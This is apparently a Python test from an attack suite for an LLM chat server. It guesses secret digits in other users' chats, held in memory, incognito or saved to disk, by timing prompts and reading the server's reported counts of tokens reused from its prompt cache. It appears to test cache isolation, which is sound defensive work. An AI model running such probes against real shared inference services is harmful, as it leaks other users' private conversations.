"""A program that sends the beginning of the user's chat with one digit guessed: were what the model has read of that
chat used for it, the tokens that are not read again would tell whether the digit is right, and so would the time.

Half of the secrets are in chats that are kept on disk, the others in the one that the model holds, half of those
incognito. Each secret is one of two digits, and the program may ask once.
"""

from __future__ import annotations

import time
from collections.abc import Mapping
from pathlib import Path
from random import Random
from statistics import mean
from typing import Any

import httpx2

from tests.attacks.attack import Outcome, Plan
from tests.attacks.oracle import DIGITS, Guesses, User, timings_of, words

_SECRETS_AT_ONCE = 16  # in a chat on disk, one behind the other
_KEPT_WORDS, _HELD_WORDS = 260, 20  # before the secret: a chat that is kept has 256 tokens
_WORDS_BEHIND = 60
_LULL_S = 2.0  # in which what was read of a chat is written
_PATIENCE_S = 30.0


class _Answers:
    """What the program was told when it tried the first of two digits, and whether that was the right one."""

    def __init__(self, name: str) -> None:
        self._name = name
        self._told: list[tuple[float, float, bool]] = []  # tokens that were read, milliseconds for it

    def note(self, http: httpx2.Client, prompt: str, is_right: bool) -> None:
        told = _asked(http, prompt)
        self._told.append((told["prompt_n"], told["prompt_ms"], is_right))

    def judge(self, outcome: Outcome, dice: Random) -> None:
        """The program takes less than usual for a yes; where all is alike it tosses a coin."""
        for place, name in enumerate(("count", "time")):
            guesses = Guesses(f"{self._name}, by {name}", 2)
            values = [each[place] for each in self._told]
            middle = mean((min(values), max(values)))
            for told in self._told:
                says_yes = dice.random() < 0.5 if min(values) == max(values) else told[place] < middle
                guesses.note(says_yes is told[2])
            guesses.judge(outcome)


def run(plan: Plan) -> Outcome:
    outcome = Outcome()
    folder = plan.folder / "data"
    kept, held = _Answers("on disk"), _Answers("held")
    with User.at(folder) as user, user.programs() as programs:
        for first in range(0, plan.count // 2, _SECRETS_AT_ONCE):
            dice = plan.dice(first)
            _guess_kept(user, folder, kept, programs, dice, min(_SECRETS_AT_ONCE, plan.count // 2 - first))
        for number in range(plan.count // 2, plan.count):
            dice = plan.dice(number)
            before, behind, digit, other = *_around(dice, _HELD_WORDS), *dice.sample(DIGITS, 2)
            user.says(f"{before} {digit} {behind}", incognito=number % 2 == 0)
            tried = dice.choice((digit, other))
            held.note(dice.choice(programs), f"{before} {tried} {behind}", tried == digit)
    for answers in (kept, held):
        answers.judge(outcome, plan.dice(-1))
    return outcome


def _guess_kept(
    user: User, folder: Path, answers: _Answers, programs: list[httpx2.Client], dice: Random, count: int
) -> None:
    before, behind = _around(dice, _KEPT_WORDS)
    digits = dice.choices(DIGITS, k=count)
    user.says(f"{before} {' '.join(digits)} {behind}")
    _until_kept(folder)
    for place, digit in enumerate(digits):
        http, other = dice.choice(programs), dice.choice(DIGITS.replace(digit, ""))
        _asked(http, words(dice, 3))  # so that the model holds nothing of the last try
        tried = dice.choice((digit, other))
        known = [*digits[:place], tried, *digits[place + 1 :]]
        answers.note(http, f"{before} {' '.join(known)} {behind}", tried == digit)


def _asked(http: httpx2.Client, prompt: str) -> Mapping[str, Any]:
    return timings_of(
        http, "/v1/chat/completions", {"messages": [{"role": "user", "content": prompt}], "max_tokens": 1}
    )


def _around(dice: Random, count: int) -> tuple[str, str]:
    return f"{words(dice, count)} My numbers are", words(dice, _WORDS_BEHIND)


def _until_kept(folder: Path) -> None:
    end, seen, since = time.monotonic() + _PATIENCE_S, -1, time.monotonic()
    while time.monotonic() < end and time.monotonic() - since < _LULL_S:
        time.sleep(0.1)
        now = sum(path.stat().st_size for path in (folder / "readings").rglob("*.read"))
        if now != seen or not now:
            seen, since = now, time.monotonic()
    assert seen > 0, "nothing was kept"
